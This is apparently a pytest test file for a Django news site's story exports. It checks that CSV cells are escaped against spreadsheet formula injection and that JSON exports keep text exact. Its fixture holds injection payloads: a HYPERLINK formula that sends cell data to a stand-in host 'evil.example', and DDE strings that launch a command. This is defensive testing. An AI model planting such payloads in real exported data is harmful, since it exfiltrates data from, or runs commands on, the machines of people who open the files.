"""CSV cells a spreadsheet would run as formulas arrive as text; JSON exports stay exact."""

import csv
import io
import json

import pytest
from django.urls import reverse

from tests.factories import ActorFactory, ArticleActorFactory, ArticleFactory

PAGE = reverse("exports:stories")
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1, "Cliquez")',
    "kicker": "+cmd|' /C calc'!A0",
    "standfirst": "-2+3+cmd|' /C calc'!A0",
}


def download(client, fmt: str) -> str:
    response = client.get(PAGE, {"format": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")


@pytest.fixture
def staff(client, export_staff):
    client.force_login(export_staff)
    client.raise_request_exception = False
    return client


def test_csv_cells_that_would_be_formulas_are_text(staff):
    story = ArticleFactory(**HOSTILE, tags=["@SUM(1+1)"])
    ArticleActorFactory(article=story, actor=ActorFactory(name="\t=1+1"))
    [row] = csv.DictReader(io.StringIO(download(staff, "csv")))
    assert row["headline"] == "'" + HOSTILE["title"]
    assert row["kicker"] == "'" + HOSTILE["kicker"]
    assert row["standfirst"] == "'" + HOSTILE["standfirst"]
    assert row["tags"] == "'@SUM(1+1)"
    assert row["actors"].startswith("'\t=1+1")


@pytest.mark.parametrize("text", ["-20 %", "+33 1 23 45 67 89", "-3,5", "Prix: =5"])
def test_csv_numbers_and_ordinary_text_are_left_alone(staff, text):
    ArticleFactory(standfirst=text)
    [row] = csv.DictReader(io.StringIO(download(staff, "csv")))
    assert row["standfirst"] == text


@pytest.mark.parametrize("text", ["-20 % pour Tesla", "\rnote", "-1-A1"])
def test_csv_text_after_a_sign_is_text(staff, text):
    ArticleFactory(standfirst=text)
    [row] = csv.DictReader(io.StringIO(download(staff, "csv")))
    assert row["standfirst"] == "'" + text


def test_json_lines_and_ninjs_keep_the_text_exact(staff):
    ArticleFactory(**HOSTILE)
    [record] = [json.loads(line) for line in download(staff, "jsonl").splitlines()]
    assert (record["title"], record["kicker"], record["standfirst"]) == tuple(HOSTILE.values())
    [document] = [json.loads(line) for line in download(staff, "ninjs").splitlines()]
    assert document["headlines"][0]["value"] == HOSTILE["title"]
    assert HOSTILE["standfirst"] in [d["value"] for d in document["descriptions"]]
